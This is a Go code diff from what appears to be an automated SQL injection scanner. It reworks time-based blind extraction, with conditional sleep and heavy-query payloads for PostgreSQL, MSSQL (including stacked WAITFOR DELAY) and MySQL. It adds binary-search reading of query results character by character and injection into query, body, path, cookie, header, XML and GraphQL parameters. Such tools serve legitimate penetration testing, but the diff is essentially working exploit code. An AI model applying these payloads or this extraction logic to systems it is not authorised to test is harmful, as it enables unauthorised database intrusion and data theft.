-func sleepPayloadFor(d dbms.DBMS, condition string, seconds int) string {
-	switch d.Name() {
-	case "PostgreSQL":
-		// PG_SLEEP returns void; embed in a SELECT to make it a scalar.
-		return fmt.Sprintf(
-			"1=(CASE WHEN (%s) THEN (SELECT 1 FROM PG_SLEEP(%d)) ELSE 1 END)",
-			condition, seconds,
-		)
-	case "MSSQL":
-		// MSSQL WAITFOR DELAY is a statement, not a scalar expression, so it
-		// cannot be used inline in a WHERE clause without stacked queries.
-		// Full stacked-query MSSQL time-based support is planned for a future release.
-		// For now, fall through to a heavy-query approximation via CASE WHEN.
-		// This is less reliable than WAITFOR but works without stacked queries.
-		return fmt.Sprintf(
-			"1=(CASE WHEN (%s) THEN (SELECT COUNT(*) FROM information_schema.columns A, information_schema.columns B) ELSE 1 END)",
-			condition,
-		)
+//	IF (condition) WAITFOR DELAY '0:00:n'
+func stackedSleepFor(d dbms.DBMS, condition string, seconds int) string {
+	return fmt.Sprintf("IF (%s) %s", condition, d.SleepFunction(seconds))
+}
+
+// sleepCoreFor returns the conditional sleep to inject through bp:
+// stackedSleepFor on a stacked variant, heavyPayloadFor on a heavy-query
+// one, the DBMS's SleepIf otherwise.
+func sleepCoreFor(d dbms.DBMS, bp boundaryPair, condition string, seconds int) string {
+	switch {
+	case bp.stacked:
+		return stackedSleepFor(d, condition, seconds)
+	case bp.delay != delaySleep:
+		return heavyPayloadFor(bp, condition)
 	default:
-		// MySQL (and fallback): IF(condition, SLEEP(n), 0)
-		return fmt.Sprintf("IF(%s,%s,0)", condition, d.SleepFunction(seconds))
+		return d.SleepIf(condition, seconds)
 	}
 }
 
+// oracle returns the expression injected through bp to test condition
+// during extraction: a conditional sleep, or the bare condition under the
+// natural-cost oracle.
+func (t *TimeBased) oracle(d dbms.DBMS, bp boundaryPair, condition string) string {
+	if t.cost != nil {
+		return condition
+	}
+	return sleepCoreFor(d, bp, condition, t.sleepSeconds)
+}
+
 // extractLength determines the length of a query result using binary search.
 // Returns (length, requestCount, error).
 func (t *TimeBased) extractLength(
 	ctx context.Context,
 	req *technique.ExtractionRequest,
 	d dbms.DBMS,
-	prefix, suffix string,
+	bp boundaryPair,
 	threshold time.Duration,
 ) (int, int, error) {
 	low := 0
@@ -302,15 +844,15 @@ func (t *TimeBased) extractLength(
 	for low < high {
 		mid := (low + high) / 2
 		condition := fmt.Sprintf("%s>%d", d.Length(fmt.Sprintf("(%s)", req.Query)), mid)
-		coreExpr := sleepPayloadFor(d, condition, t.sleepSeconds)
+		coreExpr := t.oracle(d, bp, condition)
 
-		dur, err := t.sendTimedProbe(ctx, &req.InjectionRequest, coreExpr, prefix, suffix)
+		resp, err := t.sendTimedProbe(ctx, &req.InjectionRequest, coreExpr, bp)
 		if err != nil {
 			return 0, requests, err
 		}
 		requests++
 
-		if dur >= threshold {
+		if t.elapsed(resp) >= threshold {
 			// LENGTH > mid, search upper half.
 			low = mid + 1
 		} else {
@@ -329,7 +871,7 @@ func (t *TimeBased) extractChar(
 	req *technique.ExtractionRequest,
 	d dbms.DBMS,
 	pos int,
-	prefix, suffix string,
+	bp boundaryPair,
 	threshold time.Duration,
 ) (byte, int, error) {
 	low := asciiLow
@@ -341,15 +883,15 @@ func (t *TimeBased) extractChar(
 		subExpr := d.Substring(fmt.Sprintf("(%s)", req.Query), pos, 1)
 		asciiExpr := d.ASCII(subExpr)
 		condition := fmt.Sprintf("%s>%d", asciiExpr, mid)
-		coreExpr := sleepPayloadFor(d, condition, t.sleepSeconds)
+		coreExpr := t.oracle(d, bp, condition)
 
-		dur, err := t.sendTimedProbe(ctx, &req.InjectionRequest, coreExpr, prefix, suffix)
+		resp, err := t.sendTimedProbe(ctx, &req.InjectionRequest, coreExpr, bp)
 		if err != nil {
 			return 0, requests, err
 		}
 		requests++
 
-		if dur >= threshold {
+		if t.elapsed(resp) >= threshold {
 			// ASCII > mid, search upper half.
 			low = mid + 1
 		} else {
@@ -361,34 +903,35 @@ func (t *TimeBased) extractChar(
 	return byte(low), requests, nil
 }
 
-// findWorkingBoundary iterates through boundary pairs and returns the first
-// one for which the sleep probe causes a delay above the threshold.
+// findWorkingBoundary iterates through boundary pairs, and their variants
+// for d, and returns the first one for which the sleep probe causes a delay
+// above the threshold; a heavy-query variant comes back calibrated.
 func (t *TimeBased) findWorkingBoundary(
 	ctx context.Context,
 	req *technique.InjectionRequest,
 	d dbms.DBMS,
+	baseline Sample,
 	threshold time.Duration,
-) (string, string, error) {
-	for _, bp := range defaultBoundaries {
-		sleepCore := sleepPayloadFor(d, "1=1", t.sleepSeconds)
-		dur, err := t.sendTimedProbe(ctx, req, sleepCore, bp.prefix, bp.suffix)
-		if err != nil {
-			continue
-		}
-		if dur >= threshold {
-			return bp.prefix, bp.suffix, nil
+) (boundaryPair, error) {
+	for _, boundary := range boundariesFor(t.Name(), req) {
+		for _, bp := range variantsFor(d, req.DBMS, technique.Risk(req), boundary) {
+			if bp.delay != delaySleep {
+				if bp, ok := t.calibrate(ctx, req, d, bp, baseline, threshold); ok {
+					return bp, nil
+				}
+				continue
+			}
+			sleepCore := sleepCoreFor(d, bp, "1=1", t.sleepSeconds)
+			resp, err := t.sendTimedProbe(ctx, req, sleepCore, bp)
+			if err != nil {
+				continue
+			}
+			if t.elapsed(resp) >= threshold {
+				return bp, nil
+			}
 		}
 	}
-	return "", "-- -", fmt.Errorf("no working boundary found for time-based extraction")
-}
-
-// findDBMS returns a DBMS implementation by name. Falls back to MySQL.
-func findDBMS(name string) dbms.DBMS {
-	d := dbms.Registry(name)
-	if d == nil {
-		d = dbms.Registry("MySQL")
-	}
-	return d
+	return boundaryPair{}, fmt.Errorf("no working boundary found for time-based extraction")
 }
 
 // buildProbeRequest creates a transport.Request with the target parameter
@@ -415,35 +958,63 @@ func buildProbeRequest(target *engine.ScanTarget, param *engine.Parameter, paylo
 		}
 	}
 
+	payloadStr = param.Encode(payloadStr)
 	switch param.Location {
 	case engine.LocationQuery:
 		req.URL = modifyQueryParam(target.URL, param.Name, payloadStr)
 	case engine.LocationBody:
 		req.Body = modifyBodyParam(target.Body, param.Name, payloadStr)
+	case engine.LocationPath:
+		req.URL = reqparam.SetPath(target.URL, param.Name, payloadStr)
+	case engine.LocationCookie:
+		req.Cookies = reqparam.SetCookie(req.Cookies, param.Name, payloadStr)
+	case engine.LocationHeader:
+		req.Headers = reqparam.SetHeader(req.Headers, param.Name, payloadStr)
+	case engine.LocationXML:
+		req.Body = modifyXMLParam(target.Body, param.Name, payloadStr, target.RawXML)
+	case engine.LocationGraphQL:
+		req.Body = modifyGraphQLParam(target.Body, param.Name, payloadStr)
+	case engine.LocationCustom:
+		target.Markers.Apply(req, map[string]string{param.Name: payloadStr})
 	}
 
 	return req
 }
 
-// modifyQueryParam replaces the value of a named query parameter in the URL.
+// modifyQueryParam replaces the value of a named query parameter in the URL,
+// leaving the order and encoding of the other parameters as they were.
 func modifyQueryParam(rawURL, paramName, newValue string) string {
 	parsed, err := url.Parse(rawURL)
 	if err != nil {
 		return rawURL
 	}
-	q := parsed.Query()
-	q.Set(paramName, newValue)
-	parsed.RawQuery = q.Encode()
+	parsed.RawQuery = rawquery.Set(parsed.RawQuery, paramName, newValue)
 	return parsed.String()
 }
 
 // modifyBodyParam replaces the value of a named parameter in a
-// application/x-www-form-urlencoded body.
+// application/x-www-form-urlencoded body, leaving the order and encoding
+// of the other parameters as they were.
 func modifyBodyParam(body, paramName, newValue string) string {
-	values, err := url.ParseQuery(body)
+	return rawquery.Set(body, paramName, newValue)
+}
+
+// modifyXMLParam replaces the text of the leaf element at path in an XML
+// body, leaving the body unchanged when there is none.
+func modifyXMLParam(body, path, newValue string, raw bool) string {
+	modified, err := xmlbody.Set(body, path, newValue, raw)
+	if err != nil {
+		return body
+	}
+	return modified
+}
+
+// modifyGraphQLParam sets the named variable of a GraphQL request body,
+// leaving the body unchanged when there is none.
+func modifyGraphQLParam(body, path, newValue string) string {
+	modified, err := graphql.Set(body, path, newValue)
 	if err != nil {
 		return body
 	}
-	values.Set(paramName, newValue)
-	return values.Encode()
+	return modified
 }